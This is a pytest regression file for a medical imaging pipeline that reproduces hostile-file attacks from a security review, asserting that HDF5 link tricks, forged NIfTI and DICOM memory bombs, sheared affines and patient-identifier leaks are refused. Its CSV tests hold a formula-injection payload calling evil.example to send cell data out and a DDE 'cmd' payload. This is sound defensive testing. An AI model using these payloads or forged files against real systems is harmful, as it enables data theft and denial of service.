"""Issue 23, round 2 of the hostile-file review: each test reproduces one attack that main accepted.

Items: 2 (HDF5 reading other files), 3 (NIfTI header extensions inflating before any check),
9 (DICOM pixel decode memory bounded by bits allocated), 10 (spreadsheet formulas in CSV cells),
11 (sheared / rank-deficient affines), 13 (patient identifiers in shareable outputs).
"""

from __future__ import annotations

import os

import h5py
import numpy as np
import pytest
from helpers import film_dataset, save_dicom, traced

from common.errors import InputError
from common.io import load_volume, save_volume
from common.volume import Volume


# ------------------------------------------------------------------------------------- item 2: HDF5 storage
def _h5_with_attrs(path, **kwargs):
    with h5py.File(path, "w") as f:
        ds = f.create_dataset("ct", **kwargs)
        ds.attrs["affine"] = np.eye(4)
    return path


def _external_storage(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"root:x:0:0:root:/root:/bin/bash\n" * 2)
    return _h5_with_attrs(
        tmp_path / "external.h5", shape=(4, 4, 4), dtype="u1", external=[(str(secret), 0, 64)]
    ), "external file"


def _external_link(tmp_path):
    other = save_volume(Volume.from_spacing(np.ones((4, 4, 4), np.float32)), tmp_path / "other.h5")
    path = tmp_path / "extlink.h5"
    with h5py.File(path, "w") as f:
        f["ct"] = h5py.ExternalLink(other, "/ct")
    return path, "ExternalLink"


def _soft_link(tmp_path):
    path = tmp_path / "soft.h5"
    with h5py.File(path, "w") as f:
        f.create_dataset("real", data=np.ones((4, 4, 4), np.float32)).attrs["affine"] = np.eye(4)
        f["ct"] = h5py.SoftLink("/real")
    return path, "SoftLink"


def _virtual(tmp_path):
    other = save_volume(Volume.from_spacing(np.ones((4, 4, 4), np.float32)), tmp_path / "source.h5")
    layout = h5py.VirtualLayout(shape=(4, 4, 4), dtype=np.float32)
    layout[:] = h5py.VirtualSource(other, "ct", shape=(4, 4, 4))
    path = tmp_path / "virtual.h5"
    with h5py.File(path, "w") as f:
        f.create_virtual_dataset("ct", layout).attrs["affine"] = np.eye(4)
    return path, "virtual dataset"


@pytest.mark.parametrize("make", [_external_storage, _external_link, _soft_link, _virtual])
def test_hdf5_reading_other_files_is_refused(tmp_path, make):
    """main returned /etc/passwd's bytes as voxels for external storage, and followed every link."""
    path, problem = make(tmp_path)
    with pytest.raises(InputError, match=problem) as err:
        load_volume(path)
    assert str(path) in str(err.value)


@pytest.mark.parametrize("layout", [{}, {"chunks": (2, 2, 2)}, {"chunks": (2, 2, 2), "compression": "gzip"}])
def test_hdf5_data_inside_the_file_still_loads(tmp_path, layout):
    array = np.arange(64, dtype=np.float32).reshape(4, 4, 4)
    path = _h5_with_attrs(tmp_path / "ok.h5", data=array, **layout)
    np.testing.assert_array_equal(load_volume(path).array, array)
    compact = tmp_path / "compact.h5"
    with h5py.File(compact, "w") as f:
        dcpl = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        dcpl.set_layout(h5py.h5d.COMPACT)
        space = h5py.h5s.create_simple((4, 4, 4))
        dsid = h5py.h5d.create(f.id, b"ct", h5py.h5t.NATIVE_FLOAT, space, dcpl=dcpl)
        dsid.write(h5py.h5s.ALL, h5py.h5s.ALL, array)
        f["ct"].attrs["affine"] = np.eye(4)
    np.testing.assert_array_equal(load_volume(compact).array, array)
    assert os.path.getsize(compact) < 4096


# ------------------------------------------------------------------------ item 3: NIfTI header extensions
EXT_MB = 64  # inflated extension bytes of the forged files; main held all of them in memory


def _forged_nifti(path, vox_offset: int, esize: int, filler_mb: int = EXT_MB) -> str:
    """A 4^3 float32 .nii.gz whose extension area holds ``filler_mb`` MiB of zeros (about 64 KiB of gzip)."""
    import gzip

    import nibabel as nib

    header = nib.Nifti1Header()
    header.set_data_shape((4, 4, 4))
    header.set_data_dtype(np.float32)
    header["vox_offset"] = vox_offset
    with gzip.open(path, "wb", compresslevel=1) as f:
        f.write(header.binaryblock + b"\x01\x00\x00\x00" + np.array([esize, 6], "<i4").tobytes())
        zeros = bytes(1 << 20)
        for _ in range(filler_mb):
            f.write(zeros)
        f.write(np.ones(64, np.float32).tobytes())
    return str(path)


FORGED_NIFTI = {
    # an honest 64 MiB extension: nib.load reads it whole
    "big_extension": (
        lambda p: _forged_nifti(p, 352 + 8 + EXT_MB * 2**20, 8 + EXT_MB * 2**20),
        "over the limit",
    ),
    # a small vox_offset but an extension declaring 64 MiB: nibabel trusts esize
    "lying_esize": (lambda p: _forged_nifti(p, 352 + 16, 8 + EXT_MB * 2**20), "declares"),
    # esize 0: nibabel reads fileobj.read(-8), i.e. the whole rest of the file
    "esize_zero": (lambda p: _forged_nifti(p, 352 + 16, 0), "declares 0 bytes"),
    # extension flag with vox_offset inside the header: nibabel reads extensions to the end of the file
    "offset_in_header": (lambda p: _forged_nifti(p, 0, 16), "inside the header"),
}


@pytest.mark.parametrize("name", sorted(FORGED_NIFTI))
def test_nifti_extensions_refused_before_nibabel_reads_them(tmp_path, name):

    from common.xray import load_xray

    make, problem = FORGED_NIFTI[name]
    path = make(tmp_path / f"{name}.nii.gz")
    assert os.path.getsize(path) < 2**20
    for load in (load_volume, load_xray):
        with traced() as memory, pytest.raises(InputError, match=problem) as err:
            load(path)
        peak = memory.peak
        assert str(path) in str(err.value)
        assert peak < 4 * 2**20, f"{name}: {peak / 2**20:.1f} MiB traced before the refusal"


def test_nifti_with_small_extension_and_nifti2_still_load(tmp_path):
    import nibabel as nib

    array = np.arange(60, dtype=np.float32).reshape(3, 4, 5)
    img = nib.Nifti1Image(array, np.diag([0.5, 0.7, 2.0, 1.0]))
    img.header.extensions.append(nib.nifti1.Nifti1Extension("comment", b"scanner notes " * 100))
    for suffix in (".nii", ".nii.gz"):
        nib.save(img, tmp_path / f"ext{suffix}")
        np.testing.assert_array_equal(load_volume(tmp_path / f"ext{suffix}").array, array)
    nib.save(nib.Nifti2Image(array, np.diag([0.5, 0.7, 2.0, 1.0])), tmp_path / "two.nii.gz")
    vol = load_volume(tmp_path / "two.nii.gz")
    np.testing.assert_array_equal(vol.array, array)
    np.testing.assert_allclose(vol.spacing, (0.5, 0.7, 2.0))


def test_nifti2_header_dims_checked_before_nib_load(tmp_path):
    import nibabel as nib

    from common.io import read_nifti_header

    hdr = nib.Nifti2Header()
    hdr.set_data_shape((4, 4, 4))
    raw = bytearray(hdr.binaryblock + bytes(4))
    raw[16 : 16 + 64] = np.array([3, 2**40, 2**40, 1, 1, 1, 1, 1], "<i8").tobytes()
    (tmp_path / "huge.nii").write_bytes(bytes(raw))
    with pytest.raises(InputError, match="over the limit"):
        read_nifti_header(tmp_path / "huge.nii")
    (tmp_path / "junk.nii").write_bytes(b"\x00" * 600)
    with pytest.raises(InputError, match="not a NIfTI"):
        load_volume(tmp_path / "junk.nii")


# ------------------------------------------------------------------------------ item 11: sheared affines
def _affine(columns) -> np.ndarray:
    affine = np.eye(4)
    affine[:3, :3] = np.asarray(columns, dtype=np.float64).T  # one row per array axis here
    affine[:3, 3] = (-10.0, 20.0, 30.0)
    return affine


BAD_AFFINES = {
    "sheared_10deg": _affine([[1.0, 0, 0], [np.sin(np.radians(10)), np.cos(np.radians(10)), 0], [0, 0, 2.5]]),
    "rank_deficient": _affine([[0.7, 0, 0], [0.7, 0, 0], [0, 0, 2.5]]),
    "shear_2e-3": _affine([[1.0, 0, 0], [0, 1.0, 0], [0.005, 0, 2.5]]),  # |cos| = 0.002
}


@pytest.mark.parametrize("suffix", [".nii.gz", ".h5", ".npy"])
@pytest.mark.parametrize("name", sorted(BAD_AFFINES))
def test_sheared_or_rank_deficient_affine_refused(tmp_path, suffix, name):
    """main loaded these as valid CTs: Volume.validate checked only that the spacing is positive."""
    import nibabel as nib

    from common.io import _geometry_dict, sidecar_path

    array = np.zeros((4, 5, 6), np.float32)
    array[1, 2, 3] = 1.0
    affine = BAD_AFFINES[name]
    path = tmp_path / f"{name}{suffix}"
    if suffix == ".nii.gz":
        img = nib.Nifti1Image(array, affine)
        img.set_sform(affine, code=1)
        nib.save(img, path)
    elif suffix == ".h5":
        with h5py.File(path, "w") as f:
            f.create_dataset("ct", data=array).attrs["affine"] = affine
    else:
        np.save(path, array)
        meta = _geometry_dict(Volume.from_spacing(array))
        meta["affine"] = affine.tolist()
        open(sidecar_path(path), "w").write(__import__("json").dumps(meta))
    with pytest.raises(InputError, match="not orthogonal") as err:
        load_volume(path)
    assert str(path) in str(err.value)
    with pytest.raises(InputError, match="not orthogonal"):
        save_volume(Volume(array, affine), tmp_path / f"out{suffix}")


def test_real_geometry_rounding_still_loads(tmp_path):
    """Oblique scanner geometry survives float32 storage (NIfTI sform) and 4-decimal DICOM cosines."""
    import nibabel as nib

    t = np.radians(17.0)
    rotation = np.array([[np.cos(t), -np.sin(t), 0], [np.sin(t), np.cos(t), 0], [0, 0, 1.0]])
    affine = np.eye(4)
    affine[:3, :3] = np.round(rotation, 4) @ np.diag([0.703125, 0.703125, 1.25])
    affine[:3, 3] = (-180.3, -170.9, 1234.5)
    array = np.random.default_rng(1).normal(size=(4, 5, 6)).astype(np.float32)
    img = nib.Nifti1Image(array, affine.astype(np.float32))
    img.set_sform(affine.astype(np.float32), code=1)
    nib.save(img, tmp_path / "oblique.nii.gz")
    vol = load_volume(tmp_path / "oblique.nii.gz")
    np.testing.assert_allclose(vol.affine, affine, rtol=0, atol=2e-4)  # float32 of 1234.5 mm: ~6e-5


# --------------------------------------------------------------------------- item 10: formulas in CSV cells
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    "value, expected",
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1.5", "-1.5"),  # numbers stay numbers
        ("+2e-3", "+2e-3"),
        ("case_001", "case_001"),
        ("", ""),
        (0.25, 0.25),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, expected):
    from common.tables import spreadsheet_safe

    assert spreadsheet_safe(value) == expected


class _FakeModel:
    """Just enough of XrayToCTModel for run_batch to write its summary (every case fails before running)."""

    bundle, checkpoint = "fake", "fake.pt"

    def check_options(self, options):
        return dict(options or {})

    def sha256(self):
        return "0" * 64


def test_pipeline_errors_csv_cells_are_not_formulas(tmp_path):
    """main wrote a case named =HYPERLINK(...) as a live formula into errors.csv."""
    import csv

    from xray2ct import pipeline as pl

    cases = [
        {"case": FORMULA, "pa": None, "error": "row 1: no PA file"},
        {"case": "@x", "pa": None, "error": "-1+1"},
    ]
    pl.run_batch(_FakeModel(), cases, str(tmp_path), progress_bars=False)
    with open(tmp_path / "errors.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["case"] for r in rows] == ["'" + FORMULA, "'@x"] and rows[1]["error"] == "'-1+1"
    text = (tmp_path / "errors.csv").read_text()
    assert not any(line.startswith(("=", "+", "-", "@")) for line in text.splitlines())


def test_pe_predictions_csv_cells_are_not_formulas(tmp_path):
    from bundles.pe_classifier.scripts.evaluation import _write_predictions

    path = str(tmp_path / "predictions.csv")
    _write_predictions(path, [FORMULA, "case_2"], np.array([1, 0]), np.array([0.9, 0.1]), 0.5)
    lines = open(path).read().splitlines()
    assert lines[1].startswith("\"'=HYPERLINK") and lines[2] == "case_2,0.100000,0,0"


# ---------------------------------------------------------------------- item 9: DICOM decode memory by bits
def _forged_rle_dicom(path, side: int = 8192, bits: int = 32) -> str:
    """A small RLE DICOM whose header declares ``side``^2 pixels of ``bits`` bits (the decoder allocates it)."""
    import pydicom

    ds = film_dataset(path, np.arange(80, dtype=np.uint16).reshape(8, 10), bits_stored=16)
    ds.compress(pydicom.uid.RLELossless)
    ds.Rows = ds.Columns = side
    ds.BitsAllocated, ds.BitsStored, ds.HighBit = bits, bits, bits - 1
    save_dicom(ds, path)
    return str(path)


def test_dicom_pixel_bytes_bounded_before_decoding(tmp_path):
    """main decoded a 32-bit 8192^2 RLE radiograph (256 MiB, then float64 copies: 2 GB in the web app)."""

    from common.xray import load_xray

    path = _forged_rle_dicom(tmp_path / "rle32.dcm")
    assert os.path.getsize(path) < 4096
    refusal = "32 bits decodes to 256 MiB, over the limit of 128 MiB"
    with traced() as memory, pytest.raises(InputError, match=refusal) as err:
        load_xray(path)
    peak = memory.peak
    assert err.value.path == path and peak < 16 * 2**20, f"{peak / 2**20:.0f} MiB"


def test_dicom_upload_bounded_by_bits_and_named(tmp_path):
    """The web app's upload check counted pixels only; its refusal now names the upload."""
    import io

    from webapp.uploads import save_upload

    data = open(_forged_rle_dicom(tmp_path / "rle32.dcm"), "rb").read()
    with pytest.raises(InputError, match="256 MiB") as err:
        save_upload(io.BytesIO(data), "PA X-ray (chest.dcm)", str(tmp_path), "pa")
    assert str(err.value).startswith("PA X-ray (chest.dcm): ")
    assert not list(tmp_path.glob("pa*")) and not list(tmp_path.glob(".pa*"))  # nothing left behind


def test_dicom_float32_path_matches_pydicom_luts(tmp_path):
    """The in-place float32 rescale and window give pydicom's float64 result after min/max scaling."""
    from common.xray import load_xray, pydicom_luts

    apply_modality_lut, apply_voi_lut = pydicom_luts()

    rng = np.random.default_rng(3)
    pixels = rng.integers(0, 4096, (40, 50)).astype(np.uint16)
    cases = {
        "plain": {},
        "rescale": {"RescaleSlope": 2, "RescaleIntercept": -1024},
        "window": {"RescaleSlope": 1, "RescaleIntercept": -1024, "WindowCenter": 400, "WindowWidth": 1500},
        "exact": {"WindowCenter": 2000, "WindowWidth": 1000, "VOILUTFunction": "LINEAR_EXACT"},
        "sigmoid": {"WindowCenter": 2000, "WindowWidth": 1000, "VOILUTFunction": "SIGMOID"},
        "mono1": {"WindowCenter": 2000, "WindowWidth": 3000, "PhotometricInterpretation": "MONOCHROME1"},
    }
    for name, tags in cases.items():
        path = tmp_path / f"{name}.dcm"
        ds = film_dataset(path, pixels, **tags)
        save_dicom(ds, path)
        ref = np.asarray(apply_modality_lut(ds.pixel_array, ds), dtype=np.float64)
        if "WindowCenter" in ds:
            ref = np.asarray(apply_voi_lut(ref, ds), dtype=np.float64)
        if name == "mono1":
            ref = ref.max() - ref
        ref = (ref - ref.min()) / (ref.max() - ref.min())
        image, _ = load_xray(path)
        # float32 steps on values below 2**13: relative rounding 2**-24 per step, a few steps
        np.testing.assert_allclose(image, ref, rtol=0, atol=1e-6, err_msg=name)


# --------------------------------------------------------------------- item 13: patient ids in shared outputs
IDENTIFIERS = {"PatientName": "DOE^JANE", "PatientBirthDate": "19450317", "PatientID": "HOSP-12345"}


def _identified_series(shared_data, folder, series_number: int) -> str:
    """The 20-slice abdomen series re-tagged as a named patient's (name, birth date, hospital id, study date)."""
    import pydicom

    folder.mkdir(parents=True)
    uid = pydicom.uid.generate_uid()
    for src in sorted((shared_data / "dicom" / "abdomen_ct_20slices").iterdir()):
        ds = pydicom.dcmread(src)
        for tag, value in IDENTIFIERS.items():
            setattr(ds, tag, value)
        ds.StudyDate, ds.SeriesNumber, ds.SeriesInstanceUID = "20240102", series_number, uid
        ds.SOPInstanceUID = pydicom.uid.generate_uid()
        ds.save_as(folder / src.name)
    return str(folder)


def _all_output_bytes(root) -> bytes:
    import gzip

    blob = b""
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        data = path.read_bytes()
        blob += path.name.encode() + (gzip.decompress(data) if path.suffix == ".gz" else data)
    return blob + " ".join(str(p) for p in root.rglob("*")).encode()


@pytest.mark.slow
def test_build_pairs_pseudonymises_dicom_cases(shared_data, tmp_path, monkeypatch):
    """main named the cases after their folders and wrote the PatientID into datalist, case.json and report."""
    import json
    import stat

    from data_prep.build_pairs import build_pairs, pseudonym_files

    monkeypatch.delenv("XRAY2CT_PSEUDONYM_KEY", raising=False)
    inputs = tmp_path / "inputs"
    for k in (1, 2):  # two series of one patient, in folders named after her
        _identified_series(shared_data, inputs / f"HOSP-12345_DOE_JANE_{k}", k)
    out = tmp_path / "dataset"
    summary = build_pairs(str(inputs), str(out), size=16, spacing=24.0, drr_pixels=8, val_fraction=0.5)
    assert len(summary["written"]) == 2, summary["failed"]
    assert all(c.startswith("ct-") for c in summary["written"])
    blob = _all_output_bytes(out)
    for needle in [*IDENTIFIERS.values(), "DOE", "JANE", "1945", "20240102", "HOSP"]:
        assert needle.encode() not in blob, f"{needle} found in the outputs"
    datalist = json.loads((out / "dataset.json").read_text())
    entries = [e for split in ("training", "validation", "test") for e in datalist.get(split, [])]
    assert len(entries) == 2 and len({e["patient"] for e in entries}) == 1  # one patient, one split
    assert entries[0]["patient"].startswith("pt-")
    key_file, map_file = pseudonym_files(out)
    for private in (key_file, map_file):
        assert private.parent == out.parent and stat.S_IMODE(private.stat().st_mode) == 0o600
    mapping = json.loads(map_file.read_text())
    assert {v["id"] for v in mapping["cases"].values()} == {"HOSP-12345_DOE_JANE_1", "HOSP-12345_DOE_JANE_2"}
    assert mapping["patients"] == {entries[0]["patient"]: "HOSP-12345"}
    # the same key gives the same pseudonyms: a rerun resumes instead of rebuilding
    again = build_pairs(str(inputs), str(out), size=16, spacing=24.0, drr_pixels=8, val_fraction=0.5)
    assert sorted(again["skipped_existing"]) == sorted(summary["written"])
    raw = build_pairs(str(inputs), str(tmp_path / "raw"), size=16, spacing=24.0, drr_pixels=8, raw_ids=True)
    assert sorted(raw["skipped_existing"] + raw["written"]) == [
        "HOSP-12345_DOE_JANE_1",
        "HOSP-12345_DOE_JANE_2",
    ]
    assert b"DOE^JANE" not in _all_output_bytes(tmp_path / "raw")  # names and birth dates: never copied


def test_pseudonym_key_file_must_be_private(tmp_path, monkeypatch):
    from common.pseudonym import load_or_create_key, pseudonym

    monkeypatch.delenv("XRAY2CT_PSEUDONYM_KEY", raising=False)
    key_file = tmp_path / "k"
    key = load_or_create_key(key_file)
    assert load_or_create_key(key_file) == key and len(key) == 64
    os.chmod(key_file, 0o644)
    with pytest.raises(InputError, match="others may read it"):
        load_or_create_key(key_file)
    monkeypatch.setenv("XRAY2CT_PSEUDONYM_KEY", "short")
    with pytest.raises(InputError, match="at least 16"):
        load_or_create_key(key_file)
    a, b = pseudonym(b"k" * 16, "patient", "123456"), pseudonym(b"j" * 16, "patient", "123456")
    assert a != b and len(a) == 16 and pseudonym(b"k" * 16, "series", "123456") != a
